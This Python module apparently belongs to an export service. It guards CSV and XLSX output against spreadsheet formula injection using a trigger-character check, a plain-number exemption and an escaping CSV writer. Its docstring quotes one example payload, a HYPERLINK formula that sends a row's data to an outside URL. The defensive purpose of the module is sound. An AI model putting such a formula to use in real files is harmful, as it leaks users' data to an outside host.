"""Text that leaves GridDesk stays text: no exported value can become a live formula.

A customer name, address, product, task outcome, team or specialist name comes from outside
(core-system extracts, imports) and may start with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return. A spreadsheet opening the file would run such a value as a formula
(``=HYPERLINK("http://…?x="&A1)`` sends the row away). Following OWASP's guidance on CSV
injection:

- in CSV, such a value is written with a leading ``'`` (``csv_value``, ``InertCsvWriter``);
- in XLSX, such a cell is a string cell with Excel's quote prefix, so neither opening the
  file nor editing the cell turns it into a formula (the one writer, ``app.services.files.xlsx`` and
  ``app.services.files.xlsx_layout``, writes every text as a string and checks ``is_risky``).

A value that is only a signed number, perhaps with a unit (``-12.5``, ``+8613800000000``,
``+8 pts``, ``-3.5 个百分点``), is left alone: it holds no call, reference or operator a
spreadsheet could run, a phone number keeps its ``+`` and a change keeps its sign.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,]*(\.\d+)?%?( ?[A-Za-z\u4e00-\u9fff]+)?")


def is_risky(value: object) -> bool:
    """Return True when a spreadsheet could read ``value`` as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(TRIGGERS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


def csv_value(value: Any) -> Any:
    """Return ``value`` as a CSV field that no spreadsheet runs (a risky text gets a ``'``)."""
    return "'" + value if is_risky(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    """Return the row with every risky text made inert for CSV."""
    return [csv_value(v) for v in row]


class InertCsvWriter:
    """A ``csv.writer`` whose every row is made inert first."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


# The first characters of a risky text: a cheap test before is_risky's.
RISKY_FIRST = frozenset(t[0] for t in TRIGGERS)
